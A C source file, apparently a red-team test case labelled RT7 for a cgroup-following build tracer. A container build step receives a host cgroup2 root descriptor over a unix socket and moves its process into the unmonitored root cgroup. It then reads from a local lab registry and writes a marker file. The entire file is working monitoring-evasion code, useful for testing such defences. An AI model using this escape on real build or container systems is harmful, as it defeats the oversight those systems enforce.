// A RUN step (default capabilities: no CAP_SYS_ADMIN) leaves the cgroup the
// tracer follows. It gets a descriptor of the host's cgroup2 root from
// another local user's process over an abstract unix socket (argv[1]; the
// step shares the host's network namespace), opens cgroup.procs through it
// (the descriptor is of the host's read-write mount, not the container's
// read-only one; the step is uid 0, and the hierarchy is not mounted with
// nsdelegate, nor is the step in a cgroup namespace) and writes its own PID:
// from then on it is in the root cgroup, which no hook follows. Then it
// fetches http://127.0.0.1:5000/v2/ (the lab registry) and writes the reply's
// first line to /escaped.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t n = strlen(argv[1]);
	memcpy(a.sun_path + 1, argv[1], n);
	if (connect(s, (struct sockaddr *)&a, sizeof(sa_family_t) + 1 + n) < 0) {
		perror("RT7 connect helper");
		return 1;
	}
	char b;
	struct iovec iov = {.iov_base = &b, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
	if (recvmsg(s, &m, 0) <= 0 || CMSG_FIRSTHDR(&m) == NULL) {
		perror("RT7 recvmsg");
		return 1;
	}
	int dir;
	memcpy(&dir, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	int procs = openat(dir, "cgroup.procs", O_WRONLY);
	if (procs < 0 || write(procs, "0\n", 2) != 2) {
		perror("RT7 cgroup.procs");
		return 1;
	}
	char cg[4096] = {0};
	int f = open("/proc/self/cgroup", O_RDONLY);
	read(f, cg, sizeof(cg) - 1);
	close(f);
	char *v2 = strstr(cg, "0::");
	if (v2 && strchr(v2, '\n'))
		*strchr(v2, '\n') = 0;
	printf("RT7 ESCAPED cgroup2 now %s\n", v2 ? v2 : "?");
	fflush(stdout);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in r = {.sin_family = AF_INET, .sin_port = htons(5000), .sin_addr.s_addr = htonl(0x7f000001)};
	if (connect(t, (struct sockaddr *)&r, sizeof(r)) < 0) {
		perror("RT7 connect registry");
		return 1;
	}
	const char req[] = "GET /v2/ HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n";
	write(t, req, sizeof(req) - 1);
	char resp[256] = {0};
	ssize_t got = read(t, resp, sizeof(resp) - 1);
	char *nl = strchr(resp, '\r');
	if (nl)
		*nl = 0;
	printf("RT7 FETCHED %zd bytes: %s\n", got, resp);
	int o = open("/escaped", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	write(o, resp, strlen(resp));
	close(o);
	return 0;
}
